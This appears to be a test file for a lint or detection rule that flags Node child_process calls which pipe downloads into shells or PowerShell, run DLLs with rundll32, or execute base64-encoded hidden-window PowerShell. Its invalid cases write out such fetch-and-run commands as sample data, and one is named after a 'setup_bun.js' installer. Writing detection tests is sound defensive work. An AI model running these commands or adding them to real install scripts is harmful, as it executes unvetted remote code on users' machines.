import { join } from 'node:path';
import { testRule, testSamples } from '../../test-support/rule-tester.js';
import { rule } from './rule.js';

testRule(rule, {
  valid: [
    { name: 'git and npm commands', code: "const { execSync } = require('child_process');\nexecSync('git rev-parse HEAD');\nexecSync('npm install --no-audit');" },
    { name: 'curl to a file only', code: "require('child_process').execSync('curl -fsSL -o out.tgz https://example.invalid/x.tgz');" },
    { name: 'a curl|sh string that is only printed', code: "console.log('Install with: curl -fsSL https://bun.sh/install | bash');" },
    { name: 'spawn of a dynamic command', code: "const { spawn } = require('child_process');\nspawn(cmd, args, { stdio: 'inherit' });" },
  ],
  invalid: [
    { name: 'setup_bun.js installer', code: "const { execSync } = require('child_process');\nexecSync('curl -fsSL https://bun.sh/install | bash', { stdio: 'ignore' });", errors: [{ message: /execSync\(\) pipes a download into an interpreter/, line: 2 }] },
    { name: 'PowerShell irm|iex through spawn', code: "const cp = require('node:child_process');\ncp.spawnSync('powershell', ['-c', 'irm bun.sh/install.ps1|iex']);", errors: [{ message: /spawnSync\(\) pipes a download into PowerShell Invoke-Expression/, line: 2 }] },
    { name: 'rundll32 with a built DLL path', code: "const path = require('path');\nconst { spawn } = require('child_process');\nspawn('rundll32', [path.join(__dirname, 'x.dll') + ',main']);", errors: [{ message: /runs a DLL with rundll32/, line: 3 }] },
    { name: 'command through a constant', code: "import { exec } from 'node:child_process';\nconst url = 'https://x.example.invalid/p.sh';\nconst cmd = `wget -qO- ${url} | sh`;\nexec(cmd);", path: 'index.mjs', errors: [{ message: /pipes a download into an interpreter/, line: 4 }] },
    { name: 'encoded powershell', code: "require('child_process').exec('powershell -NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=');", errors: [{ message: /base64-encoded PowerShell/, line: 1 }] },
  ],
});

testSamples(rule, join(import.meta.dirname, 'samples'));
